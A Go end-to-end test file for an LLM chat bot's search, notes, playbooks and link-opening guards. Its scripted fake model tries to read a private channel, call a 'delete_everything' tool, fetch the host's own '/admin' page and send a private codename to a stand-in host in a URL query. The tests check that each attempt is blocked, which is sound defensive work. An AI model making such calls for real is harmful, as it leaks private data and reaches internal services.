package e2e

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"myao/internal/store"
	"myao/sandbox/workspace"
	"myao/test/llmtest"
	"myao/test/testserver"
)

// awaitFound waits until the search index has a text that a channel's own people may find.
func (s *system) awaitFound(channel, text string) {
	s.t.Helper()
	s.await("the search index to have "+text, func() bool {
		found, err := s.store.Search(s.t.Context(), store.SearchQuery{Team: "T0E2E", Here: channel, Text: text, Limit: 1})
		return err == nil && len(found) == 1
	})
}

// What was said in another channel is found by words that it was not asked with exactly, and cited by a
// link. Private channels are not searched from elsewhere.
func TestLookingUp(t *testing.T) {
	t.Parallel()
	s := start(t, testserver.Postgres(t), quiet(300), maxWait(600), modelAnswers(func(c llmtest.Call) llmtest.Reply {
		switch {
		case c.Judgment():
			return llmtest.No("nobody asked")
		case len(c.Turns) > 0:
			return llmtest.Text("On Thursday [1], and on the 20th [2].")
		case len(c.Tools) == 0:
			return llmtest.Text("there are no tools")
		}
		return llmtest.Calls(llmtest.ToolCall("search_messages", `{"query":"deploying billing codename"}`), llmtest.ToolCall("search_messages", `{"query":"締め日"}`),
			llmtest.ToolCall("read_channel", `{"channel":"attic"}`), llmtest.ToolCall("delete_everything", `{}`))
	}))
	random := s.Workspace.AddChannel(workspace.Public, "random", s.Workspace.Bot().UserID, s.alice.ID, s.bob.ID)
	attic := s.Workspace.AddChannel(workspace.Private, "attic", s.Workspace.Bot().UserID, s.alice.ID)
	s.runWorkflow("ChannelSync", nil, nil)
	moved := s.Workspace.Say(random, s.bob.ID, "The deployment of billing has moved to Thursday.")
	s.Workspace.Say(random, s.bob.ID, "請求書の締め日は毎月二十日です")
	s.Workspace.Say(attic, s.alice.ID, "deploy billing under the codename walrus")
	s.awaitFound(random, "billing")
	s.awaitFound(random, "請求書")
	s.awaitFound(attic, "walrus")

	asked := s.Workspace.Say(s.general, s.alice.ID, s.mention("when do we deploy billing, and when is the 締め日?"))
	s.await("the answer", func() bool { return len(s.posts()) == 1 })
	link := fmt.Sprintf("/archives/%s/p%s)", random, strings.ReplaceAll(moved, ".", ""))
	if p := s.posts()[0]; p.ThreadTS != asked || !strings.Contains(string(p.Blocks), "[[1]](http://") || !strings.Contains(string(p.Blocks), link) || !strings.Contains(string(p.Blocks), "[[2]](") {
		t.Errorf("posted %s, want links for both numbers", p.Blocks)
	}
	calls := s.replies()
	if len(calls) != 2 || len(calls[1].Turns) != 1 {
		t.Fatalf("%d calls of the model, want 2:\n%+v", len(calls), calls)
	}
	results := calls[1].Turns[0].Results
	for i, want := range []string{"bob: The deployment of billing has moved to Thursday.", "bob: 請求書の締め日は毎月二十日です", `No channel "attic" is known here`, `There is no tool "delete_everything" here`} {
		if !strings.Contains(results[i].Text, want) {
			t.Errorf("result %d is %q, want %q", i, results[i].Text, want)
		}
	}
	for _, c := range calls {
		if strings.Contains(string(c.Body), "walrus") {
			t.Errorf("a private channel is shown elsewhere:\n%s", c.Body)
		}
	}
	if !strings.Contains(calls[0].System, "## Said before") || !strings.Contains(calls[0].System, "moved to Thursday") {
		t.Errorf("the prompt does not show what was said before:\n%s", calls[0].System)
	}
}

// A note is in the prompts of its own channel and of no other, until somebody takes it back.
func TestNotes(t *testing.T) {
	t.Parallel()
	s := start(t, sqlite(t), quiet(300), maxWait(600), modelAnswers(llmtest.Script(
		llmtest.Calls(llmtest.ToolCall("remember", `{"text":"Lunch is at noon."}`)), llmtest.Text("Noted."))))
	random := s.Workspace.AddChannel(workspace.Public, "random", s.Workspace.Bot().UserID, s.alice.ID, s.bob.ID)
	s.Workspace.Say(s.general, s.alice.ID, s.mention("please remember when lunch is"))
	s.await("the answer", func() bool { return len(s.posts()) == 1 })
	const note = "- #1 ("
	if prompt := s.promptFor(s.general, "what do you know?"); !strings.Contains(prompt, note) || !strings.Contains(prompt, "alice): Lunch is at noon.") {
		t.Errorf("the note is not in its channel's prompt:\n%s", prompt)
	}
	if prompt := s.promptFor(random, "what do you know?"); strings.Contains(prompt, note) {
		t.Errorf("the note is in another channel's prompt:\n%s", prompt)
	}
	if stdout, stderr, status := s.Command("notes", "list", "general"); status != 0 || !strings.Contains(stdout, "Lunch is at noon.") {
		t.Errorf("%d %q %q", status, stdout, stderr)
	}
	if stdout, stderr, status := s.Command("notes", "forget", "general", "1"); status != 0 || stdout != "note 1 is forgotten\n" {
		t.Errorf("%d %q %q", status, stdout, stderr)
	}
	if prompt := s.promptFor(s.general, "and now?"); strings.Contains(prompt, note) {
		t.Errorf("the note was taken back, and is in the prompt:\n%s", prompt)
	}
}

// A reply reads the operator's playbook, whose links stay links. A file that is written while the programs run is a
// playbook at once, what is none is left out, and where guests read there are none.
func TestPlaybooks(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	playbook := func(file, text string) {
		t.Helper()
		testserver.Must(t, os.WriteFile(filepath.Join(dir, file), []byte(text), 0o600))
	}
	playbook("deploy.md", "# Deploy by hand\n\nWhen the pipeline is down.\n\n1. See https://deploy.example/hand.\n")
	playbook("broken.md", "no title\n")
	s := start(t, sqlite(t), quiet(1), configured(fmt.Sprintf("playbooks_dir: %q", dir)), modelAnswers(func(c llmtest.Call) llmtest.Reply {
		switch {
		case c.Judgment():
			return llmtest.Yes("a playbook fits", 1, 0)
		case len(c.Turns) > 0:
			return llmtest.Text("By Deploy by hand: see [here](https://deploy.example/hand).")
		case !strings.Contains(c.System, "- Deploy by hand: "):
			return llmtest.Text("there are no playbooks")
		}
		return llmtest.Calls(llmtest.ToolCall("read_playbook", `{"name":"deploy by hand"}`), llmtest.ToolCall("read_playbook", `{"name":"broken"}`))
	}))
	s.Workspace.Say(s.general, s.alice.ID, "how do we deploy?")
	s.await("the answer", func() bool { return len(s.posts()) == 1 })
	if p := s.posts()[0]; !strings.Contains(string(p.Blocks), "[here](https://deploy.example/hand)") {
		t.Errorf("posted %s, want the playbook's link", p.Blocks)
	}
	judged, replies := s.judgments(), s.replies()
	if len(judged) != 1 || !strings.Contains(judged[0].System, "- Deploy by hand: When the pipeline is down.") {
		t.Errorf("the judge is not told of the playbook:\n%+v", judged)
	}
	if results := replies[1].Turns[0].Results; !strings.Contains(results[0].Text, "1. See https://deploy.example/hand.") ||
		results[1].Text != `There is no playbook "broken". There are: Deploy by hand.` {
		t.Errorf("the playbooks read: %+v", results)
	}
	playbook("restart.md", "# Restart\n\nWhen it hangs.\n")
	if prompt := s.promptFor(s.general, "what else?"); !strings.Contains(prompt, "- Restart: When it hangs.") {
		t.Errorf("a new playbook is not in the prompt:\n%s", prompt)
	}
	if stdout, _, _ := s.Command("doctor"); !strings.Contains(stdout, "broken.md has no title") {
		t.Errorf("doctor says\n%s", stdout)
	}
	s.await("that answer", func() bool { return len(s.posts()) == 2 })
	gil := s.Workspace.AddUserAs(workspace.User{Name: "gil", Guest: true}).ID
	before := len(s.replies())
	s.Workspace.Say(s.Workspace.AddChannel(workspace.DM, "", gil), gil, "how do we deploy?")
	s.await("the guest's answer", func() bool { return len(s.replies()) > before })
	if prompt := s.replies()[before].System; strings.Contains(prompt, "Deploy by hand") {
		t.Errorf("a guest's prompt names a playbook:\n%s", prompt)
	}
}

// The programs that are shipped open no page of their own machine, whoever names it, and no address that
// only the model names.
func TestLinksOfTheMachineItself(t *testing.T) {
	t.Parallel()
	var hits atomic.Int32
	inside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(inside.Close)
	s := start(t, sqlite(t), quiet(300), maxWait(600), modelAnswers(func(c llmtest.Call) llmtest.Reply {
		if len(c.Turns) > 0 {
			return llmtest.Text("Neither can be opened.")
		}
		return llmtest.Calls(llmtest.ToolCall("open_link", fmt.Sprintf(`{"url":%q}`, inside.URL+"/admin")), llmtest.ToolCall("open_link", `{"url":"https://x.example/?d=walrus"}`))
	}))
	s.Workspace.Say(s.general, s.alice.ID, s.mention("please read <"+inside.URL+"/admin>"))
	s.await("the answer", func() bool { return len(s.posts()) == 1 })
	calls := s.replies()
	if len(calls) != 2 || len(calls[1].Turns) != 1 {
		t.Fatalf("%d calls of the model, want 2:\n%+v", len(calls), calls)
	}
	results := calls[1].Turns[0].Results
	for i, want := range []string{"Only public addresses are opened", "stands in no message here"} {
		if !strings.Contains(results[i].Text, want) {
			t.Errorf("result %d is %q, want %q", i, results[i].Text, want)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("a page of the machine was fetched %d times", n)
	}
}
